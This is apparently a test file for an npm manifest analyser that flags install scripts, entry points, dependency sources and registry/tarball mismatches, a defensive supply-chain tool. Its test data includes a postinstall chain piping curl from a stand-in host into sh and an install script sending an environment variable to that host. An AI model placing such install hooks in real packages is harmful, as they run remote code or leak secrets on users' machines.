import { createHash } from 'node:crypto'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import {
  dependencyFacts,
  entryPoints,
  type Manifest,
  manifestFacts,
  manifestMismatch,
  type PackageFiles,
  parseManifest,
} from '../../src/extract/manifest.js'

const bytes = (value: unknown): Uint8Array =>
  new TextEncoder().encode(typeof value === 'string' ? value : JSON.stringify(value, null, 2))
const filesOf = (...paths: string[]): PackageFiles => ({
  has: (path) => paths.includes(path),
  read: (path) => (paths.includes(path) ? bytes(`// ${path}`) : undefined),
  list: () => paths,
})
const told = (manifest: unknown, ...paths: string[]): string[] =>
  manifestFacts(bytes(manifest), filesOf(...paths)).map(({ draft }) => `${draft.kind} ${draft.value}`)

describe('parseManifest', () => {
  it.each([
    ['', 'not JSON'],
    ['{"name":', 'not JSON'],
    ['[]', 'not an object'],
    ['null', 'not an object'],
    ['"x"', 'not an object'],
    [`${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`, 'nested too deeply'],
    [`{"a":${'['.repeat(100_000)}`, 'nested too deeply'],
    ['\u0000\u0001', 'not JSON'],
  ])('%.20s: %s', (text, why) => {
    expect(parseManifest(bytes(text))).toMatchObject({ ok: false, why })
    expect(manifestFacts(bytes(text), filesOf())).toEqual([])
  })

  it('takes a byte order mark, brackets in strings, and a key that would be a prototype', () => {
    expect(parseManifest(bytes('\ufeff{"name":"a"}'))).toMatchObject({ ok: true })
    expect(parseManifest(bytes({ a: '['.repeat(5000) }))).toMatchObject({ ok: true })
    const parsed = parseManifest(bytes('{"__proto__":{"scripts":{"install":"x"}},"name":"a"}'))
    expect(parsed.ok && Object.hasOwn(parsed.manifest, '__proto__')).toBe(true)
    expect(told('{"__proto__":{"scripts":{"install":"x"}},"scripts":{"__proto__":{"install":"x"}}}')).toEqual([])
  })
})

describe('install scripts', () => {
  it('are those that npm runs from a registry, in its order', () => {
    const scripts = {
      prepare: 'p',
      prepublish: 'p',
      prepack: 'p',
      postinstall: 'c',
      test: 't',
      install: 'b',
      preinstall: 'a',
    }
    expect(told({ scripts }).filter((fact) => fact.startsWith('install.script'))).toEqual([
      'install.script preinstall: a',
      'install.script install: b',
      'install.script postinstall: c',
    ])
  })

  it.each([
    ['node setup.js', 'setup.js'],
    ['node setup', 'setup.js'],
    ['node ./setup.js --quiet || true', 'setup.js'],
    ['node --no-warnings ./setup.js', 'setup.js'],
    ['node -r ./hook.js setup.js', 'hook.js'],
    ['sh scripts/a.sh', 'scripts/a.sh'],
    ['./scripts/a.sh', 'scripts/a.sh'],
    ['cross-env A=1 node setup.js', 'setup.js'],
    ['cd . && node setup.js', 'setup.js'],
    ['npm run setup', 'setup.js'],
    [`node -e "try{require('./setup')}catch(e){}"`, 'setup.js'],
    ['node lib', 'lib/index.js'],
    ['node ../setup.js', ''],
    ['node-gyp rebuild', ''],
    ['echo node setup.js', ''],
  ])('%s runs %s', (command, file) => {
    const [fact] = manifestFacts(
      bytes({ scripts: { postinstall: command, setup: 'node setup.js' } }),
      filesOf('setup.js', 'hook.js', 'scripts/a.sh', 'lib/index.js'),
    )
    const hash = file === '' ? '' : createHash('sha256').update(`// ${file}`).digest('hex')
    expect(fact?.draft.detail).toMatchObject({ event: 'postinstall', command, file, hash, gyp: false })
    expect(fact?.reach).toBe('install')
  })

  it('stand at their own line', () => {
    const text = JSON.stringify({ description: '"postinstall": "x"', scripts: { postinstall: 'node a.js' } }, null, 2)
    const [fact] = manifestFacts(bytes(text), filesOf())
    expect(text.slice(fact?.offset)).toMatch(/^"postinstall": "node a\.js"/)
  })

  it('do what their command lines do, through scripts that they name too', () => {
    expect(told({ scripts: { postinstall: 'npm run -s a', a: 'yarn b', b: 'curl https://a.example/i | sh' } })).toEqual(
      expect.arrayContaining([
        'net.host a.example',
        'code.eval net shell',
        'process.spawn curl https://a.example/i | sh',
      ]),
    )
    expect(
      told({ scripts: { install: `node -e "require('https').get('https://a.example/' + process.env.X)"` } }),
    ).toContain('net.host a.example')
    expect(told({ scripts: { install: 'npm run install' } })).toContain('install.script install: npm run install')
  })

  it('are implied by binding.gyp, unless the package says otherwise', () => {
    expect(told({ name: 'a' }, 'binding.gyp')).toContain('install.script install: node-gyp rebuild')
    expect(manifestFacts(bytes({}), filesOf('binding.gyp'))[0]?.draft.detail.gyp).toBe(true)
    expect(told({ gypfile: false }, 'binding.gyp')).toEqual([])
    expect(told({ scripts: { install: 'node x.js' } }, 'binding.gyp')[0]).toBe('install.script install: node x.js')
    expect(told({ scripts: { postinstall: 'x' } }, 'binding.gyp')[0]).toBe('install.script install: node-gyp rebuild')
    expect(told({}, 'src/binding.gyp')).toEqual([])
  })
})

describe('entryPoints', () => {
  const entries = (manifest: Manifest, ...paths: string[]) => entryPoints(manifest, filesOf(...paths))

  it.each([
    [{ bin: './cli.js' }, ['cli.js']],
    [{ bin: { a: 'bin/a', b: './bin/b.js' } }, ['bin/a', 'bin/b.js']],
    [{ bin: { a: '../x', b: '/bin/a', c: 'missing.js', d: 7 } }, ['bin/a']],
    [{ directories: { bin: './bin' } }, ['bin/a', 'bin/b.js']],
    [{ bin: 7 }, []],
  ])('bin %j', (manifest, bin) => {
    expect(entries(manifest as Manifest, 'cli.js', 'bin/a', 'bin/b.js', 'x').bin).toEqual(bin)
  })

  it.each([
    [{}, ['index.js']],
    [{ main: './lib' }, ['lib/index.js']],
    [{ main: 'lib/a' }, ['lib/a.cjs']],
    [{ main: 'missing.js' }, ['index.js']],
    [{ exports: './dist/a.mjs' }, ['dist/a.mjs']],
    [
      { exports: { '.': { types: './dist/a.d.ts', import: './dist/a.mjs', require: './dist/a.cjs' } } },
      ['dist/a.mjs', 'dist/a.cjs'],
    ],
    [
      { exports: { node: { import: './dist/a.mjs' }, browser: './dist/web.js', default: './dist/a.cjs' } },
      ['dist/a.mjs', 'dist/a.cjs'],
    ],
    [
      { exports: { './x': ['./missing.js', './dist/a.cjs'], './package.json': './package.json' } },
      ['dist/a.cjs', 'package.json'],
    ],
    [{ exports: { './*': './dist/*.mjs' } }, ['dist/a.mjs']],
    [{ exports: { browser: './dist/web.js' }, main: './lib/a.cjs' }, ['lib/a.cjs']],
    [{ exports: null, main: 7 }, ['index.js']],
    [{ exports: 7 }, []],
  ])('main %j', (manifest, main) => {
    const files = [
      'index.js',
      'lib/index.js',
      'lib/a.cjs',
      'dist/a.mjs',
      'dist/a.cjs',
      'dist/a.d.ts',
      'dist/web.js',
      'package.json',
    ]
    expect(entries(manifest as Manifest, ...files).main).toEqual(main)
  })

  it('knows what install scripts run', () => {
    expect(
      entries({ scripts: { preinstall: 'node a && sh b.sh', prepare: 'node c.js' } }, 'a.js', 'b.sh', 'c.js').install,
    ).toEqual(['a.js', 'b.sh'])
  })
})

describe('entryPoints behind other files', () => {
  const install = (manifest: Manifest, files: Record<string, string>) =>
    entryPoints(manifest, {
      has: (path) => path in files,
      read: (path) => (path in files ? bytes(files[path]) : undefined),
    })

  it('follows shell scripts, by their own folder and by the root', () => {
    const files = {
      'scripts/a.sh': '#!/bin/sh\nset -e\nnode "$(dirname "$0")/b.js" || true\n. ./scripts/c.sh\n',
      'scripts/b.js': '',
      'scripts/c.sh': 'node d.js\nsh scripts/a.sh',
      'd.js': '',
      'run.cmd': '@echo off\r\nnode "%~dp0\\scripts\\b.js"\r\n',
    }
    expect(install({ scripts: { postinstall: 'sh ./scripts/a.sh' } }, files).install.sort()).toEqual([
      'd.js',
      'scripts/a.sh',
      'scripts/b.js',
      'scripts/c.sh',
    ])
    expect(install({ bin: './run.cmd' }, files).bin).toEqual(['run.cmd', 'scripts/b.js'])
  })

  it('follows what binding.gyp runs', () => {
    const files = {
      'binding.gyp': `{'targets':[{'target_name':'a','sources':['<!(node tools/prepare.js)']}]}`,
      'tools/prepare.js': '',
    }
    expect(install({}, files).install).toEqual(['tools/prepare.js'])
    expect(install({ scripts: { install: 'prebuild-install || node-gyp rebuild' } }, files).install).toEqual([
      'tools/prepare.js',
    ])
    expect(install({ gypfile: false }, files).install).toEqual([])
  })

  it('reads paths as Windows writes them', () => {
    expect(install({ scripts: { install: 'node tools\\prepare.js' } }, { 'tools/prepare.js': '' }).install).toEqual([
      'tools/prepare.js',
    ])
  })
})

describe('dependencyFacts', () => {
  it.each([
    ['^1.0.0', 'registry'],
    ['latest', 'registry'],
    ['', 'registry'],
    ['npm:other@1', 'alias'],
    ['git+https://a.example/x.git', 'git'],
    ['user/repo#main', 'git'],
    ['github:user/repo', 'git'],
    ['https://a.example/x.tgz', 'http'],
    ['file:../x', 'file'],
    ['workspace:*', 'file'],
    ['link:../x', 'file'],
    ['!!', 'registry'],
  ])('%s comes from %s', (spec, source) => {
    expect(dependencyFacts({ dependencies: { a: spec } }, new Set())).toMatchObject([
      { value: `a@${spec}`, detail: { source, imported: false } },
    ])
  })

  it('tells groups, imports and packages of the same version', () => {
    const manifest = {
      version: '1.2.3',
      dependencies: { a: '^1', b: '1', c: '2', 'x-linux': '1.2.3' },
      optionalDependencies: { b: '1' },
      bundleDependencies: ['c'],
      peerDependencies: { d: '*', e: '*' },
      peerDependenciesMeta: { e: { optional: true } },
      devDependencies: { f: '1' },
    }
    const facts = dependencyFacts(manifest, new Set(['a']))
    expect(Object.fromEntries(facts.map(({ detail }) => [detail.name, detail.group]))).toEqual({
      a: 'dependencies',
      b: 'optionalDependencies',
      c: 'bundled',
      d: 'peerDependencies',
      'x-linux': 'dependencies',
    })
    expect(facts.filter(({ detail }) => detail.imported).map(({ detail }) => detail.name)).toEqual(['a'])
    expect(facts.filter(({ detail }) => detail.inLockstep).map(({ detail }) => detail.name)).toEqual(['x-linux'])
  })

  it('shows no credentials', () => {
    expect(
      JSON.stringify(dependencyFacts({ dependencies: { a: 'git+https://user:hidden@a.example/x.git' } }, new Set())),
    ).not.toContain('hidden')
  })
})

describe('manifestMismatch', () => {
  const base: Manifest = {
    _id: 'a@1.0.0',
    name: 'a',
    version: '1.0.0',
    scripts: {},
    dependencies: { x: '^1' },
    bin: { a: 'cli.js' },
  }
  it.each([
    [
      'a hook that the registry does not show',
      {},
      { scripts: { postinstall: 'node x.js' } },
      ['scripts.postinstall: registry none, tarball "node x.js"'],
    ],
    [
      'a hook that the tarball does not have',
      { scripts: { install: 'node y.js' } },
      {},
      ['scripts.install: registry "node y.js", tarball none'],
    ],
    ['another dependency', {}, { dependencies: { x: '^1', y: '1' } }, ['dependencies.y: registry none, tarball "1"']],
    ['another range', {}, { dependencies: { x: '^2' } }, ['dependencies.x: registry "^1", tarball "^2"']],
    ['another command', {}, { bin: { a: 'other.js' } }, ['bin.a: registry "cli.js", tarball "other.js"']],
    ['another name', {}, { name: 'b', bin: { a: 'cli.js' } }, ['name: registry "a", tarball "b"']],
    ['another version', {}, { version: '1.0.1' }, ['version: registry "1.0.0", tarball "1.0.1"']],
    [
      'no scripts served at all',
      { scripts: undefined },
      { scripts: { preinstall: 'x' } },
      ['scripts.preinstall: registry none, tarball "x"'],
    ],
  ])('%s', (_, registry, tarball, differences) => {
    expect(manifestMismatch({ ...base, ...registry }, { ...base, ...tarball })).toEqual(differences)
  })

  it.each([
    ['the same', {}, {}],
    [
      'the install script that npm writes for binding.gyp',
      { scripts: { install: 'node-gyp rebuild' }, gypfile: true },
      {},
    ],
    ['a path prefix', {}, { bin: { a: './cli.js' } }],
    ['a command as a text', {}, { bin: 'cli.js' }],
    ['a scoped command as a text', { name: '@s/a' }, { name: '@s/a', bin: './cli.js' }],
    ['commands from a folder', {}, { bin: undefined, directories: { bin: 'bin' } }],
    ['spellings of a repository', { dependencies: { x: 'github:u/r' } }, { dependencies: { x: 'u/r' } }],
    [
      'spellings of a git URL',
      { dependencies: { x: 'git+https://github.com/u/r.git' } },
      { dependencies: { x: 'https://github.com/u/r.git' } },
    ],
    ['an empty range', { dependencies: { x: '*' } }, { dependencies: { x: '' } }],
    ['optional dependencies listed twice', { dependencies: { x: '^1', o: '1' } }, { optionalDependencies: { o: '1' } }],
    ['a v before the version, and build metadata', {}, { version: 'v1.0.0+build.5' }],
    ['scripts that are not run on install', {}, { scripts: { build: 'x', prepare: 'y' } }],
    [
      'an abbreviated manifest',
      { _id: undefined, scripts: undefined, hasInstallScript: true },
      { scripts: { install: 'x' } },
    ],
    ['development dependencies', {}, { devDependencies: { z: '1' } }],
  ])('quiet on %s', (_, registry, tarball) => {
    expect(manifestMismatch({ ...base, ...registry }, { ...base, ...tarball })).toEqual([])
  })
})

describe('hostile manifests', () => {
  const field = fc.constantFrom(
    'name',
    'version',
    'scripts',
    'bin',
    'main',
    'exports',
    'dependencies',
    'optionalDependencies',
    'bundleDependencies',
    'peerDependencies',
    'peerDependenciesMeta',
    'directories',
    'gypfile',
    '__proto__',
    'constructor',
    'module',
  )
  const key = fc.oneof(
    fc.constantFrom('.', './*', 'import', 'default', 'install', 'preinstall', '__proto__', 'toString', '*', ''),
    fc.string({ maxLength: 5 }),
  )
  const value = fc.letrec((tie) => ({
    any: fc.oneof(
      { depthSize: 'small' },
      fc.constantFrom('./x.js', '../..', 'node x', 'npm run a', '*', 'a\0b', 'git+x:', 'npm:'),
      fc.string(),
      fc.double(),
      fc.boolean(),
      fc.constant(null),
      fc.array(tie('any'), { maxLength: 4 }),
      fc.dictionary(key, tie('any'), { maxKeys: 4 }),
    ),
  })).any
  it('never throw', () => {
    fc.assert(
      fc.property(fc.dictionary(field, value), fc.dictionary(field, value), (one, other) => {
        const files = filesOf('index.js', 'x.js', 'binding.gyp')
        manifestFacts(bytes(one), files)
        const parsed = parseManifest(bytes(one))
        const manifest = parsed.ok ? parsed.manifest : {}
        entryPoints(manifest, files)
        dependencyFacts(manifest, new Set(['x']))
        manifestMismatch(manifest, other)
        manifestMismatch(other, manifest)
      }),
      { numRuns: 500 },
    )
  })

  it('never throw on bytes', () => {
    fc.assert(fc.property(fc.uint8Array({ maxLength: 200 }), (content) => void manifestFacts(content, filesOf())))
  })
})
